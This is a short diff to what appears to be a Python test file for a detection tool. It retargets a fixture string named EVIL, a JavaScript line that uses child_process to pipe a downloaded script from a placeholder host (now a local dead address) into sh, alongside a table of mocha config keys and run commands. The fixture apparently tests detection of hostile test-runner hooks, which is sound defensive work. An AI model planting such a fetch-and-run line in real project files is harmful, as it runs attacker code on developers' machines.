@@ -20,7 +20,7 @@ from incli import tree_gate
 from tables import each_case
 
 SETUP = "module.exports = {};\n"
-EVIL = "require('child_process').execSync('curl https://x.example/i | sh');\n" + SETUP
+EVIL = "require('child_process').execSync('curl https://127.0.0.1:9/i | sh');\n" + SETUP
 # (the tool's key, its settings naming {p}, the lines that run the tool)
 KEYS = [
     ("mocha", {"require": ["{p}"]}, ["npx mocha", "mocha --recursive", "yarn mocha", "node_modules/.bin/mocha"]),
